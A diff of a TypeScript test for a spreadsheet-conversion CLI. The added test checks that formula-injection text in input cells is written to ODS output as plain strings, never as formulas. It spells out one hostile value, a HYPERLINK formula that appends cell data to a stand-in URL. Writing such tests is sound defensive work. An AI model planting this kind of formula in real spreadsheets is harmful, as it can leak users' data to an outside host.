@@ -20,8 +20,12 @@ import { readXlsxSheets } from '../../cli/xlsx-stream';
 import { SHEETS } from '../../shared/messages';
 import type { Cell, Grid } from '../../shared/types';
 import { convertWithLibreOffice, recalcToCsv, withLibreOffice } from '../helpers/libreoffice';
+import { PAYLOADS, hostileTables } from '../helpers/hostile';
+import { csvTables } from '../fakes/gas-region';
+import { main } from '../../cli/main';
+import { workbookFromTables } from '../../cli/xlsx';
 import { fixture } from '../import-helpers';
-import { DEMO_XLSX, shnor, tempDir } from './run-cli';
+import { DEMO_CSV, DEMO_XLSX, shnor, tempDir } from './run-cli';
 
 const INPUT = [SHEETS.schools, SHEETS.results, SHEETS.social, SHEETS.settings];
 
@@ -451,5 +455,25 @@ describe('the readers a browser page can use have no Node API', () => {
       expect({ file, bad }).toEqual({ file, bad: [] });
       expect({ file, node: /\b(Buffer|process|__dirname)\b/.test(text.replace(/\/\*[^]*?\*\/|\/\/.*$/gm, '')) }).toEqual({ file, node: false });
     }
+  });
+});
+
+describe('--out результат.ods: text from the data never becomes a formula', () => {
+  test('hostile text in every text column: strings in content.xml, no table:formula, read back as typed, «@» kept as a text data style', async () => {
+    const dir = tempDir('shnor-ods-hostile-');
+    const input = path.join(dir, 'region.xlsx');
+    await workbookFromTables(hostileTables(csvTables(DEMO_CSV))).xlsx.writeFile(input);
+    const out = path.join(dir, 'result.ods');
+    const quiet = { stdout: () => undefined, stderr: () => undefined, isTTY: false };
+    expect(await main(['identify', input, '--out', out], quiet)).toBe(0);
+    const zip = await JSZip.loadAsync(fs.readFileSync(out));
+    const content = await zip.file('content.xml')!.async('string');
+    expect(content).not.toMatch(/table:formula=/);
+    const styles = await zip.file('styles.xml')!.async('string');
+    expect(styles).toMatch(/<number:text-style style:name="N\d+"><number:text-content\/><\/number:text-style>/);
+    const texts = new Set<string>();
+    for (const sheet of (await readBookSheets(out, 'ods')).sheets) for (const row of sheet.grid) for (const c of row) if (typeof c === 'string') texts.add(c);
+    for (const p of PAYLOADS) expect(texts.has(p)).toBe(true);
+    expect(texts.has('=HYPERLINK("http://x"&A1,"y")0')).toBe(true);
   });
 });
